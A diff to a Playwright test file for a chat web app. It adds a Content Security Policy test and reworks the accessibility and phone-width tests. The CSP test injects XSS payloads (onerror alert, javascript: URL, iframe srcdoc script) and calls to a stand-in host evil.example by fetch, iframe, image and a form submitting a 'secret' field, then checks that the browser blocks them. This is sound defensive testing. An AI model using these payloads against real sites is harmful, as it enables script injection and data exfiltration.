@@ -1,4 +1,4 @@
-"""The web app in Chromium with texts that would like to be scripts; access by everybody; phones."""
+"""The web app in Chromium with texts that would like to be scripts; axe; the widths of phones."""
 
 import json
 
@@ -161,48 +161,92 @@ def test_a_hostile_chat_stays_text_while_it_is_streamed_and_after(site, browser)
 
 
 def test_the_policy_holds_where_escaping_would_fail(site, browser):
-    with pages.visit(browser, site) as (page, _):
-        page.goto("/chat")
-        settle(page)
-    # A page of our own origin that breaks in: even then no script of its text runs.
+    """A page of our own origin into which a text broke: nothing of it runs, or calls elsewhere."""
     context = browser.new_context(base_url=site.url)
+    violations = pages.watch_policy(context)
     page, ran = context.new_page(), []
     page.on("dialog", lambda dialog: (ran.append(1), dialog.dismiss()))
     page.goto("/")
-    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')")
-    page.evaluate("location.href = 'javascript:alert(1)'")
-    page.wait_for_timeout(200)
-    assert ran == []
+    for html in (
+        "<img src=x onerror=alert(1)>",
+        "<img src=https://evil.example/a.png>",
+        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+        "<iframe src=https://evil.example></iframe>",
+        "<p style='position: fixed'>",
+        "<form id=out action=https://evil.example><input name=secret></form>",
+    ):
+        page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", html)
+    page.evaluate("""() => {
+        const script = document.createElement('script');
+        script.textContent = 'alert(1)';
+        document.body.append(script);
+        fetch('https://evil.example/').catch(() => null);
+        document.getElementById('out').submit();
+        location.href = 'javascript:alert(1)';
+    }""")
+    page.wait_for_timeout(300)
+    assert ran == [] and page.url == f"{site.url}/"
+    assert {violation.split()[0] for violation in violations} >= {
+        "script-src-attr", "script-src-elem", "img-src", "frame-src", "style-src-attr",
+        "connect-src", "form-action",
+    }  # fmt: skip
     context.close()
 
 
-def test_no_page_is_wider_than_a_phone(site, browser, campaigns):
-    phone = {"width": 360, "height": 740}
-    with pages.visit(browser, site, role="admin", viewport=phone) as (page, _):
-        for path in paths(campaigns)[:-1]:
-            page.goto(path)
-            settle(page)
+WIDTHS = {"desktop": pages.WIDE, "phone": {"width": 360, "height": 740}}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    ("width", "theme"),
+    [
+        ("phone", "dark"), ("phone", "light"), ("desktop", "dark"), ("desktop", "light"),
+    ],
+)  # fmt: skip
+def test_axe_finds_nothing_serious_and_no_page_is_wider_than_the_screen(
+    site, browser, campaigns, width, theme
+):
+    findings, options = {}, {"color_scheme": theme, "consent": False}
+    with pages.visit(browser, site, "admin", WIDTHS[width], **options) as (page, _):
+
+        def look(name):
+            findings[name] = pages.serious_findings(page)
             wide = page.evaluate("document.documentElement.scrollWidth")
-            assert wide <= 360, f"{path} is {wide} pixels wide"
+            if wide > WIDTHS[width]["width"]:
+                findings[name].append(f"{wide} pixels wide")
 
-
-@pytest.mark.parametrize("theme", ["light", "dark"])
-def test_axe_has_no_serious_finding(site, browser, campaigns, theme):
-    source = pages.axe_source()
-    findings = {}
-    options = {"color_scheme": theme, "reduced_motion": "reduce", "consent": False}
-    with pages.visit(browser, site, role="admin", **options) as (page, _):
         for path in ("/", *paths(campaigns)[:-1]):
             page.goto(path)
             settle(page)
+            look(path)
             if path == "/chat":
-                page.fill("#message", "hello")
-                page.keyboard.press("Enter")
-                page.locator(".turn.assistant .actions").wait_for()
-                page.click("[aria-label='Bad reply']")
-                page.click("[aria-label='Keyboard shortcuts']")
-                findings["help"] = pages.serious_findings(page, source)
+                look_at_the_chat(page, look)
+            elif page.locator(".board").count():
+                page.click("#help-button")
+                look("help")
                 page.keyboard.press("Escape")
-            if found := pages.serious_findings(page, source):
-                findings[path] = found
-    assert json.dumps({path: one for path, one in findings.items() if one}, indent=1) == "{}"
+                page.click("button:text-is('Skip')")
+                look("skip")
+                page.keyboard.press("Escape")
+    assert json.dumps({name: one for name, one in findings.items() if one}, indent=1) == "{}"
+
+
+def look_at_the_chat(page, look):
+    """The states of the chat, with everything open that can be."""
+    page.fill("#message", "hello")
+    page.keyboard.press("Enter")
+    page.locator(".turn.assistant .actions").wait_for()
+    page.click("[aria-label='Bad reply']")
+    page.check("[value=harmful]")
+    page.click("text=Write a better reply")
+    page.click("[aria-label='Edit and send again']")
+    look("feedback")
+    page.click(".turn.user button:text-is('Cancel')")
+    page.click("text=Show me another")
+    page.locator("text=Second is better").wait_for()
+    look("side by side")
+    page.click("text=Neither")
+    if page.locator("#sidebar-toggle").is_visible():
+        page.click("#sidebar-toggle")
+        page.wait_for_timeout(250)
+        look("conversations")
